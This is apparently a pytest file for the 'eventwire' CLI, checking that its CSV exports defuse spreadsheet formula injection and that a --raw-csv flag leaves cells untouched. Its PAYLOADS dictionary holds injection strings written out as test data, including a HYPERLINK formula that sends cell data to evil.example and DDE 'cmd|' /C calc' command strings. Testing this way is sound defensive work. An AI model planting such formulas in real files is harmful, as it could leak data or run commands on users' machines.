"""`eventwire export` and `eventwire events` CSV from a real SQLite store, as a
spreadsheet would open it: cells that would run as formulas start with a ', numbers
stay numbers, and `--raw-csv` writes every cell as stored.

The store is filled with invented Documents directly (no pipeline), so these run fast."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from eventwire.cli.app import app
from eventwire.records import Acled, Actor, Article, Document, Event, Magnitude, Place
from eventwire.store import Store

# One payload per character that makes a spreadsheet read a cell as a formula (OWASP).
PAYLOADS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}


def hostile(name: str, day: int) -> Document:
    """An article whose id, title, source, event id, actor words, event words and place
    all begin with the payload `name`, with a negative score and negative coordinates."""
    payload = PAYLOADS[name]
    event = Event(
        id=f"{payload} {name}-e1",
        event="ASSAULT",
        quad="material conflict",
        score=-9.5,
        confidence=0.5,
        actor=[
            Actor(text=f"{payload} gunmen", name=f"{payload} gunmen", sector="UAF", span=(0, 6))
        ],
        recipient=[
            Actor(
                text=f"{payload} villagers",
                name=f"{payload} villagers",
                sector="CVL",
                span=(20, 29),
            )
        ],
        event_text=f"{payload} attacked",
        span=(7, 15),
        sentence=0,
        location=Place(text=f"{payload} town", country="CHL", lat=-33.9, lon=-70.6, span=(40, 44)),
        dead=Magnitude(value=3),
        acled=Acled(event_type="Violence against civilians", sub_event_type="Attack"),
    )
    return Document(
        id=f"{payload} {name}",
        title=f"{payload} title",
        source=f"{payload} wire",
        published=dt.date(2025, 3, day),
        events=[event],
    )


def expected(suffix: str) -> list[str]:
    """What each hostile article wrote into a column, in PAYLOADS order."""
    return [f"{PAYLOADS[name]} {suffix.format(name=name)}" for name in PAYLOADS]


@pytest.fixture
def db(tmp_path: Path) -> str:
    """A SQLite store holding one hostile article per payload."""
    path = tmp_path / "events.db"
    documents = [hostile(name, day) for day, name in enumerate(PAYLOADS, start=1)]
    with Store.open(str(path)) as store:
        store.add(
            [(Article(id=doc.id, text="Gunmen attacked the town."), doc) for doc in documents]
        )
    return str(path)


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


def rows_by_day(text: str, day_column: str) -> list[dict[str, str]]:
    """The CSV rows read back with the csv module, in PAYLOADS order: the n-th article
    was published on day n, and ISO dates sort as text."""
    return sorted(csv.DictReader(io.StringIO(text)), key=lambda row: row[day_column])


# --- export --------------------------------------------------------------------------

EXPORT_COLUMNS = {
    "csv": {
        "article_id": "{name}",
        "title": "title",
        "source": "wire",
        "event_id": "{name}-e1",
        "actor": "gunmen",
        "recipient": "villagers",
        "event_text": "attacked",
        "location": "town",
    },
    "acled": {
        "actor1": "gunmen",
        "actor2": "villagers",
        "location": "town",
        "source": "wire",
    },
}
EXPORT_DAY = {"csv": "published", "acled": "event_date"}


def export(runner: CliRunner, db: str, fmt: str, out: Path, *flags: str) -> str:
    result = runner.invoke(app, ["export", "--db", db, "-f", fmt, "-o", str(out), *flags])
    assert result.exit_code == 0, result.output
    return out.read_bytes().decode("utf-8")  # as written: a "\r" in a cell stays one


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_export_csv_is_safe_for_spreadsheets(
    runner: CliRunner, db: str, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"events.{fmt}.csv"
    text = export(runner, db, fmt, out)
    rows = rows_by_day(text, EXPORT_DAY[fmt])
    assert len(rows) == len(PAYLOADS)  # no carriage return split a row
    for column, suffix in EXPORT_COLUMNS[fmt].items():
        assert [row[column] for row in rows] == ["'" + v for v in expected(suffix)], column
    frame = pd.read_csv(out)
    assert frame["latitude"].dtype == frame["longitude"].dtype == "float64"
    assert set(frame["latitude"]) == {-33.9} and set(frame["longitude"]) == {-70.6}
    if fmt == "csv":
        assert frame["score"].dtype == "float64" and set(frame["score"]) == {-9.5}
    else:
        assert frame["fatalities"].dtype == "int64" and set(frame["fatalities"]) == {3}
    for column in EXPORT_COLUMNS[fmt]:
        assert all(cell.startswith("'") for cell in frame[column]), column


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_export_raw_csv_writes_cells_unchanged(
    runner: CliRunner, db: str, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"raw.{fmt}.csv"
    rows = rows_by_day(export(runner, db, fmt, out, "--raw-csv"), EXPORT_DAY[fmt])
    for column, suffix in EXPORT_COLUMNS[fmt].items():
        assert [row[column] for row in rows] == expected(suffix), column
    frame = pd.read_csv(out)
    assert frame["longitude"].dtype == "float64" and set(frame["longitude"]) == {-70.6}


def test_export_jsonl_is_the_same_with_or_without_raw_csv(
    runner: CliRunner, db: str, tmp_path: Path
) -> None:
    safe = export(runner, db, "jsonl", tmp_path / "a.jsonl")
    raw = export(runner, db, "jsonl", tmp_path / "b.jsonl", "--raw-csv")
    assert safe == raw
    titles = sorted(json.loads(line)["title"] for line in safe.splitlines())
    assert titles == sorted(expected("title"))


# --- events --------------------------------------------------------------------------

EVENTS_COLUMNS = {
    "article_id": "{name}",
    "actor": "gunmen",
    "recipient": "villagers",
    "event_text": "attacked",
    "location": "town",
}


def events(runner: CliRunner, db: str, *flags: str) -> str:
    result = runner.invoke(app, ["events", "--db", db, *flags])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_events_csv_is_safe_for_spreadsheets(runner: CliRunner, db: str) -> None:
    text = events(runner, db, "--format", "csv")
    rows = rows_by_day(text, "published")
    assert len(rows) == len(PAYLOADS)
    for column, suffix in EVENTS_COLUMNS.items():
        assert [row[column] for row in rows] == ["'" + v for v in expected(suffix)], column
    frame = pd.read_csv(io.StringIO(text))
    assert frame["dead"].dtype == "int64" and set(frame["dead"]) == {3}
    assert all(cell.startswith("'") for cell in frame["actor"])


def test_events_raw_csv_writes_cells_unchanged(runner: CliRunner, db: str) -> None:
    rows = rows_by_day(events(runner, db, "--format", "csv", "--raw-csv"), "published")
    for column, suffix in EVENTS_COLUMNS.items():
        assert [row[column] for row in rows] == expected(suffix), column


def test_events_json_is_not_neutralized(runner: CliRunner, db: str) -> None:
    rows = json.loads(events(runner, db, "--format", "json"))
    assert sorted(row["actor"] for row in rows) == sorted(expected("gunmen"))


@pytest.mark.parametrize("command", ["events", "export"])
def test_raw_csv_is_documented(runner: CliRunner, command: str) -> None:
    result = runner.invoke(app, [command, "--help"])
    assert result.exit_code == 0
    assert "--raw-csv" in result.stdout and "formula" in result.stdout
